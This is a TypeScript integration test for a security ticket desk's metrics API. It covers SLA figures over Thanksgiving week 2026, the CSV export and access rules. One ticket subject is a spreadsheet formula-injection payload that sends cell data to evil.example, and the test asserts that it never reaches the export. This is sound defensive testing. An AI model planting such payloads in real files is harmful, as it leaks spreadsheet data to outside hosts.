// The inbox metrics through the real API on a real database: tickets opened and handled on a
// controllable clock over the week of Thanksgiving 2026 (New York calendar), then the JSON figures,
// the CSV export and who may read them.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { DateTime } from 'luxon';
import { SYSTEM_ACTOR } from '../../src/authz/authorize.ts';
import { createCalendar } from '../../src/domains/calendar/calendar.ts';
import { firstHandlingDue } from '../../src/domains/tickets/sla.ts';
import type { TicketStatus } from '../../src/domains/tickets/tickets.types.ts';
import { startTestApp, type TestApp } from '../support/harness.ts';
import { TestClock } from '../support/reminders.ts';
import { createUser, signIn, type Client } from '../support/session.ts';

const SYSTEM = { actor: SYSTEM_ACTOR };
const calendar = createCalendar();
const ny = (local: string) => DateTime.fromISO(local, { zone: 'America/New_York' }).toJSDate();
const clock = new TestClock(ny('2026-11-22T08:00').getTime());
const HOSTILE_SUBJECT = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
let t: TestApp;
let analyst: Client;
let readOnly: Client;
let support: Client;

async function at(local: string) {
  const when = ny(local).getTime();
  assert.ok(when >= clock.time, 'the test clock only moves forward');
  clock.time = when;
}

async function open(local: string, subject = 'Report', noise = false): Promise<string> {
  await at(local);
  const createdAt = clock.now();
  const ticket = await t.app.services.tickets.open(SYSTEM, {
    subject,
    status: 'new',
    requesterEmail: 'reporter@example.org',
    requesterName: null,
    organisation: null,
    disposition: null,
    tags: noise ? ['auto-reply'] : [],
    slaDueAt: noise ? null : firstHandlingDue(calendar, createdAt),
    createdAt,
    messages: [{ direction: 'inbound', from: 'reporter@example.org', subject, bodyText: 'Hello', createdAt }],
  });
  return ticket.id;
}

const move = (id: string, status: TicketStatus) => t.app.services.ticketChanges.update(SYSTEM, id, { status });

before(async () => {
  t = await startTestApp({ app: { clock }, env: { SECDESK_SLA_PAUSE_WHEN_PENDING: 'true' } });
  // Outside the period: the Sunday before.
  await open('2026-11-22T10:00');
  // Handled in half an hour by a disposition: met.
  const hostile = await open('2026-11-23T09:00', HOSTILE_SUBJECT);
  await at('2026-11-23T09:30');
  await t.app.services.ticketChanges.update(SYSTEM, hostile, { disposition: 'reply' });
  // Never handled, due Tuesday 11:00: missed.
  await open('2026-11-23T11:00');
  // Paused on the requester for one business day, solved Wednesday noon: 4 business hours, met.
  const paused = await open('2026-11-24T08:00');
  await at('2026-11-24T10:00');
  await move(paused, 'pending');
  await at('2026-11-25T10:00');
  await move(paused, 'open');
  await at('2026-11-25T12:00');
  await move(paused, 'solved');
  const late = await open('2026-11-25T20:00');
  await at('2026-11-27T15:00');
  // Friday 15:00, due Monday 15:00: not yet due at Monday noon.
  await open('2026-11-27T15:00');
  // Noise on Sunday: no SLA.
  await open('2026-11-29T10:00', 'Out of office', true);
  // Over Thanksgiving and the weekend: 4 + 24 + 8 = 36 business hours, missed (due Friday 20:00).
  await at('2026-11-30T08:00');
  await move(late, 'solved');
  // After the period.
  await open('2026-11-30T09:00');
  await at('2026-11-30T12:00');

  await createUser(t.app, 'analyst@example.com', ['security_analyst']);
  await createUser(t.app, 'observer@example.com', ['read_only']);
  await createUser(t.app, 'support@example.com', ['support']);
  analyst = await signIn(t.http, 'analyst@example.com');
  readOnly = await signIn(t.http, 'observer@example.com');
  support = await signIn(t.http, 'support@example.com');
});
after(async () => t.close());

const PERIOD = 'from=2026-11-23&to=2026-11-29';

function figures(report: any, key: string): Record<string, number | null> {
  const section = report.sections.find((s: any) => s.key === key);
  return Object.fromEntries(section.figures.map((f: any) => [f.key, f.value]));
}

test('the figures for the Thanksgiving week: dispositions, business-hour handling times, SLA attainment', async () => {
  const res = await analyst.request('GET', `/api/metrics/inbox?${PERIOD}`);
  assert.equal(res.statusCode, 200, res.body);
  const report = res.json();
  assert.deepEqual(report.period, { from: '2026-11-23', to: '2026-11-29' });
  assert.equal(report.timeZone, 'America/New_York');
  const byWeek = report.sections.find((s: any) => s.key === 'tickets_by_disposition');
  assert.deepEqual(byWeek.rows, [
    {
      week: '2026-W48',
      weekStart: '2026-11-23',
      reply: 1,
      engage: 0,
      'redirect:support': 0,
      'redirect:vulnerability': 0,
      'redirect:copyright': 0,
      compliance_request: 0,
      none: 5,
      total: 6,
    },
  ]);
  assert.deepEqual(figures(report, 'first_handling'), { handled: 3, unhandled: 2, p50: 4, p90: 36 });
  const buckets = report.sections.find((s: any) => s.key === 'first_handling').rows.map((r: any) => r.tickets);
  assert.deepEqual(buckets, [1, 0, 1, 0, 1, 0]);
  assert.deepEqual(figures(report, 'sla_attainment'), { attainment: 50, met: 2, missed: 2, running: 1, paused: 0, noSla: 1 });
  // Open now, whenever they arrived: Sunday's, the one with a disposition, the missed one, Friday's, the noise and Monday's.
  const open = report.sections.find((s: any) => s.key === 'open_tickets');
  assert.deepEqual(
    open.rows.map((r: any) => [r.status, r.tickets]),
    [['new', 6]],
  );
  assert.equal(open.rows[0].oldestAgeDays, 8.1);
});

test('the default period is the 12 weeks up to today; bad periods are clear errors', async () => {
  const res = await readOnly.request('GET', '/api/metrics/inbox');
  assert.equal(res.statusCode, 200, res.body);
  assert.deepEqual(res.json().period, { from: '2026-09-14', to: '2026-11-30' });
  assert.equal(res.json().sections[0].rows.length, 12);
  assert.equal(res.json().sections[0].rows.at(-1).total, 1);
  for (const [query, problem] of [
    ['from=2026-11-30&to=2026-11-01', /from must not be after to/],
    ['from=2026-13-01', /date/],
    ['from=yesterday', /from/],
    ['to=2026-11-30&other=1', /other|additional/i],
  ] as const) {
    const bad = await analyst.request('GET', `/api/metrics/inbox?${query}`);
    assert.equal(bad.statusCode, 400, query);
    assert.match(bad.body, problem);
  }
});

test('a section downloads as CSV; ticket contents such as a formula-like subject never appear', async () => {
  const res = await analyst.request('GET', `/api/metrics/inbox.csv?${PERIOD}&section=sla_attainment`);
  assert.equal(res.statusCode, 200, res.body);
  assert.match(String(res.headers['content-type']), /^text\/csv/);
  assert.equal(res.headers['content-disposition'], 'attachment; filename="secdesk-sla_attainment-2026-11-23-2026-11-29.csv"');
  assert.equal(res.body, 'Week,Met,Missed,Not yet due,Paused,Attainment\r\n2026-W48,2,2,1,0,50\r\n');
  const byWeek = await analyst.request('GET', `/api/metrics/inbox.csv?${PERIOD}&section=tickets_by_disposition`);
  assert.equal(
    byWeek.body.split('\r\n')[0],
    'Week,Week starts,reply,engage,redirect:support,redirect:vulnerability,redirect:copyright,compliance request,undecided,Total',
  );
  for (const section of ['tickets_by_disposition', 'first_handling', 'sla_attainment', 'open_tickets']) {
    const csv = await analyst.request('GET', `/api/metrics/inbox.csv?${PERIOD}&section=${section}`);
    assert.equal(csv.statusCode, 200);
    assert.doesNotMatch(csv.body, /HYPERLINK|evil\.example/);
  }
  const unknown = await analyst.request('GET', `/api/metrics/inbox.csv?${PERIOD}&section=nope`);
  assert.equal(unknown.statusCode, 400);
  assert.match(unknown.body, /no metrics section nope/);
  assert.equal((await analyst.request('GET', `/api/metrics/inbox.csv?${PERIOD}&section=..%2Fx`)).statusCode, 400);
});

test('metrics.read is enforced: support and anonymous callers are refused', async () => {
  assert.equal((await support.request('GET', '/api/metrics/inbox')).statusCode, 403);
  assert.equal((await support.request('GET', `/api/metrics/inbox.csv?section=sla_attainment`)).statusCode, 403);
  assert.equal((await t.http.inject({ method: 'GET', url: '/api/metrics/inbox' })).statusCode, 401);
  assert.equal((await readOnly.request('GET', `/api/metrics/inbox.csv?section=open_tickets`)).statusCode, 200);
});
